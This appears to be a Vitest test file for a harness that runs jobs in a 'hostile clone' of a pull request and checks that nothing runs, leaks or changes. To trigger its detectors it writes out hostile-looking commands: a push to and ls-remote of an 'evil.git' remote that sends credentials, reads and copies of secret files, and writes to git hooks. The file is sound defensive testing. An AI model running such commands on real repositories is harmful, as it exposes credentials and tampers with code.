import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { canary, openClone, type HostileClone } from './hostile-clone.ts';
import { playWay } from './jobs.ts';
import { ways } from './ways.ts';

async function inClone(way: string | undefined, play: (clone: HostileClone) => Promise<void>): Promise<void> {
  const clone = await openClone(ways.find((one) => one.way === way) ?? { files: {} });
  try {
    await play(clone);
  } finally {
    await clone.close();
  }
}

describe('a fresh clone of a pull request', () => {
  test('has at least 40 ways, each once', () => {
    expect(ways.length).toBeGreaterThanOrEqual(40);
    expect(new Set(ways.map(({ way }) => way)).size).toBe(ways.length);
  });

  test('that means no harm is applied, with its secret, and no trace of it', async () => {
    await inClone(undefined, async (clone) => {
      expect(await clone.run('apply --env production --yes')).toBe(0);
      expect(clone.sent().join('\n')).toContain(canary);
      expect(clone.traces()).toEqual([]);
    });
  });
});

test('the jobs, the shell and the editor get answers in a clone that means no harm', async () => {
  await inClone(undefined, async (clone) => {
    await playWay(clone, {});
    expect(clone.traces()).toEqual([]);
    for (const answer of [
      '2 warnings in',
      'Applied: 1 created',
      '/repos/o/r/issues/1/comments',
      '"capabilities"',
      '"contents"',
    ])
      expect(clone.said()).toContain(answer);
    expect(clone.said()).toMatch(/^endpoint\/shop$/m);
  });
});

describe('a trace is seen', () => {
  const first = async (way: string | undefined, command: string): Promise<string | undefined> => {
    let seen: string | undefined;
    await inClone(way, async (clone) => {
      await clone.run(command);
      [seen] = clone.traces();
    });
    return seen;
  };

  test('of a hook that git runs', async () => {
    const way = 'ledger.remote is ./evil.git, a repository with hooks';
    expect(await first(way, '$ git push ./evil.git HEAD:refs/heads/x')).toMatch(/^ran: hooks|^ran: /);
  });

  test('of a program of the clone', async () => {
    expect(await first(undefined, '$ ./canary')).toMatch(/^ran: /);
  });

  test('of a credential that git sends', async () => {
    const way = 'ledger.remote is <HOST>/evil.git';
    const line = '$ git ls-remote "$(sed -n \'s/.*remote: "\\([^"]*\\)".*/\\1/p\' edgewright.yaml)"';
    await inClone(way, async (clone) => {
      await clone.run(line);
      expect(clone.traces().some((trace) => /^sent: GET .*git-upload-pack Basic /.test(trace))).toBe(true);
    });
  });

  test('of a secret that is printed, and of one that is written', async () => {
    expect(await first(undefined, '$ cat secrets/CARD_2')).toMatch(/^printed: /);
    expect(await first(undefined, '$ cp secrets/CARD_2 copy')).toBe('wrote a secret: clone/copy');
  });

  test('of files that were changed', async () => {
    await inClone(undefined, async (clone) => {
      const config = path.join(clone.folder, '.git/config');
      writeFileSync(config, `${readFileSync(config, 'utf8')}[alias]\n`);
      await clone.run('$ touch .git/hooks/pre-commit ../outside/x');
      expect(clone.traces()).toEqual([
        'changed: outside',
        'changed: clone/.git/hooks',
        'changed: clone/.git/config',
      ]);
    });
  });
});

describe('a fresh clone of a pull request makes a job run, read, send, publish and write nothing', () => {
  test.each(ways)('$way', async (way) => {
    const clone = await openClone(way);
    try {
      await playWay(clone, way);
      expect(clone.traces()).toEqual([]);
      expect(clone.sent().filter((request) => request.includes(canary) && request.includes('evil'))).toEqual(
        [],
      );
    } finally {
      await clone.close();
    }
  });
});
